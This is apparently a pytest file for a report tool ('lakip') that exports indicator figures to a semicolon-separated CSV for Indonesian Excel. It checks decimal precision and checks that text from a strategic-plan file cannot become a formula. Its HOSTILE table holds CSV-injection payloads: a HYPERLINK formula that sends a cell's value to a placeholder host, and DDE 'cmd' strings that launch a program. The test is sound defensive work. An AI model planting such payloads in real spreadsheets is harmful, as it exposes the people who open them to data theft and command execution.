"""`capaian-YYYY.csv` opens in Excel set to Indonesian and never runs a formula (issues 11, 12).

The sample is loaded from a real copy, edited the way a hostile or careless planner would, and
the CSV is read back with Python's csv module the way Excel reads it: `;` between cells, UTF-8 after
a byte order mark, a comma as the decimal point.
"""

from __future__ import annotations

import csv
import io
import json

from golden import apply_edits
from helpers import copy_sample, run_lakip

RENSTRA = "reports/renstra.yml"
HOSTILE = {
    "IKU-01": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "IKU-02": "+1+cmd|' /C calc'!A0",
    "IKU-03": "-2+3",
    "IKU-04": "@SUM(1+1)*cmd|' /C calc'!A0",
    "IKU-05": "\t=1+1",
    "IKU-06": "＝1+1",
}


def _spreadsheet(root) -> str:
    from lakip.assemble.extras import exports
    from lakip.compute.figures import compute
    from lakip.validate.gate import load_and_validate

    result = load_and_validate(root, 2025)
    assert result.ok, result.findings
    return exports(compute(result.project, 2025))["capaian-2025.csv"]


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def test_values_are_at_the_report_precision(tmp_path):
    root = copy_sample(tmp_path)
    # 95.6 / 90 x 100 = 106.2222...: the report prints 106,22
    apply_edits(root, {"sections/bidang-ideologi/2025/realisasi.yml": {
        "replace": [["realisasi: 92.22", "realisasi: 95.60"]]}})  # fmt: skip
    text = _spreadsheet(root)
    assert text.count("\r\n") == text.count("\n")  # CRLF, as Excel writes it
    rows = {row["code"]: row for row in _rows(text)}
    first = rows["IKU-01"]
    assert (first["target"], first["realisation"], first["capaian"]) == ("90,00", "95,60", "106,22")
    assert first["category"] == "Sangat Tinggi"
    assert (rows["IKU-02"]["target"], rows["IKU-02"]["realisation"]) == ("1.600", "1684")
    assert rows["IKU-09"]["realisation"] == "0,0189"  # a ratio keeps its four places
    for row in rows.values():
        for name in ("realisation", "capaian", "capped", "target_low", "target_high"):
            assert "." not in row[name] and len(row[name].partition(",")[2]) <= 4, row
    # the JSON keeps the exact quotient
    from lakip.assemble.exports import export
    from lakip.compute.figures import compute
    from lakip.validate.gate import load_and_validate

    figures = compute(load_and_validate(root, 2025).project, 2025)
    data = json.loads(export(figures, "json", "id"))
    assert data["indicators"][0]["capaian"]["value"] == "106.2222222222222222222222222"


def test_renstra_text_cannot_become_a_formula(tmp_path):
    root = copy_sample(tmp_path)
    renstra = (root / RENSTRA).read_text(encoding="utf-8")
    for code, text in HOSTILE.items():
        head = f"          - kode: {code}\n            uraian: "
        start = renstra.index(head) + len(head)
        end = renstra.index("\n", start)
        renstra = renstra[:start] + json.dumps(text, ensure_ascii=False) + renstra[end:]
    renstra = renstra.replace('satuan: "%"', 'satuan: "=1+1"', 1)
    (root / RENSTRA).write_text(renstra, encoding="utf-8")
    rows = {row["code"]: row for row in _rows(_spreadsheet(root))}
    for code, text in HOSTILE.items():
        assert rows[code]["indicator"] == "'" + text
    assert rows["IKU-01"]["satuan"] == "'=1+1"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), row
            assert not cell.startswith("-") or cell.lstrip("-").replace(",", "").isdigit(), row
    # `lakip figures --format csv` prints the same rows, without the byte order mark
    code, out, err = run_lakip("figures", "--root", root, "--format", "csv")
    assert code == 0, err
    assert f"'{HOSTILE['IKU-01']}" in out.replace('""', '"')
    assert not out.startswith("\ufeff")
